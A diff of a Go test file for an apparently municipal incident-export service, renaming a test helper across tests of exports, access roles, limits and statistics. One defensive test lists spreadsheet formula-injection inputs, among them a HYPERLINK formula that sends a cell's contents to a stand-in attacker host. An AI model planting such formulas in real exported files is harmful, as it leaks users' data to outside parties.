@@ -54,7 +54,7 @@ func column(rows [][]string, n int) []string {
 }
 
 func TestIncidentsAsAFile(t *testing.T) {
-	st := limited(t, Options{})
+	st := newStandWith(t, Options{})
 	hall := st.token(auth.HallOperator, "")
 	path := st.told(hall, "0301", 107.2, 38.3)
 	west := st.told(hall, "0301", 107.2, 38.2)
@@ -99,7 +99,7 @@ func TestIncidentsAsAFile(t *testing.T) {
 }
 
 func TestAFileHoldsNoFormula(t *testing.T) {
-	st := limited(t, Options{})
+	st := newStandWith(t, Options{})
 	hall := st.token(auth.HallOperator, "")
 	guarded := []string{
 		`=HYPERLINK("http://evil.example/?"&A1,"点这里")`, "＝1+1", "+1", "＋1", "-1", "－1", "−1", "﹣2", "@SUM(A1:A9)", "＠SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx",
@@ -136,7 +136,7 @@ func TestAFileHoldsNoFormula(t *testing.T) {
 }
 
 func TestAFileHoldsWhatTheListHolds(t *testing.T) {
-	st := limited(t, Options{Limits: api.Limits{ExportsPerDay: 1000, ReadsPerSecond: 1000}})
+	st := newStandWith(t, Options{Limits: api.Limits{ExportsPerDay: 1000, ReadsPerSecond: 1000}})
 	hall := st.sign(store.Credential{Role: auth.HallOperator})
 	townA := st.token(auth.TownOperator, "A")
 	handler := st.sign(store.Credential{Role: auth.DeptHandler, Department: 1})
@@ -197,7 +197,7 @@ func TestAFileHoldsWhatTheListHolds(t *testing.T) {
 }
 
 func TestWhoMayHaveAFile(t *testing.T) {
-	st := limited(t, Options{})
+	st := newStandWith(t, Options{})
 	st.told(st.token(auth.HallOperator, ""), "0301", 107.2, 38.2)
 	days := "&from=2026-01-05&to=2026-01-12"
 	for role, want := range map[auth.Role][2]int{
@@ -227,8 +227,8 @@ func TestWhoMayHaveAFile(t *testing.T) {
 }
 
 func TestFilesHaveLimits(t *testing.T) {
-	clock := &clockOfTests{at: time.Now()}
-	st := limited(t, Options{Now: clock.now, Limits: api.Limits{ExportRows: 4, ReadsPerSecond: 1000}})
+	clock := &testClock{at: time.Now()}
+	st := newStandWith(t, Options{Now: clock.now, Limits: api.Limits{ExportRows: 4, ReadsPerSecond: 1000}})
 	hall := st.sign(store.Credential{Role: auth.HallOperator})
 	leader := st.sign(store.Credential{Role: auth.CountyLeader})
 	for range 4 {
@@ -274,7 +274,7 @@ func TestFilesHaveLimits(t *testing.T) {
 
 func TestCountsAreOfWholeWeeksThatAreOver(t *testing.T) {
 	noon := people.Local(time.Date(2026, 3, 20, 4, 0, 0, 0, time.UTC))
-	st := limited(t, Options{Now: func() time.Time { return noon }})
+	st := newStandWith(t, Options{Now: func() time.Time { return noon }})
 	leader := st.token(auth.CountyLeader, "")
 	for days, want := range map[string]int{
 		"from=2026-03-09&to=2026-03-16": 200, "from=2025-01-06&to=2026-01-05": 200, "from=2026-03-08&to=2026-03-16": 422, "from=2026-03-09&to=2026-03-17": 422,
@@ -374,7 +374,7 @@ func (st *stand) copies(id int64, category string, at time.Time, n int) {
 }
 
 func TestNoSmallNumberLeavesInFigures(t *testing.T) {
-	st := limited(t, Options{Limits: api.Limits{ExportsPerDay: 10_000, ReadsPerSecond: 10_000}})
+	st := newStandWith(t, Options{Limits: api.Limits{ExportsPerDay: 10_000, ReadsPerSecond: 10_000}})
 	hall := st.sign(store.Credential{Role: auth.HallOperator, Sensitive: true})
 	leader := st.sign(store.Credential{Role: auth.CountyLeader})
 	townA := st.sign(store.Credential{Role: auth.TownOperator, GridCode: "A"})
@@ -489,7 +489,7 @@ func TestNoSmallNumberLeavesInFigures(t *testing.T) {
 }
 
 func TestFiguresCountFormerGridsWhereTheirCodesStandNow(t *testing.T) {
-	st := limited(t, Options{})
+	st := newStandWith(t, Options{})
 	leader := st.token(auth.CountyLeader, "")
 	hall := st.token(auth.HallOperator, "")
 	at := time.Date(2026, 1, 6, 4, 0, 0, 0, time.UTC)
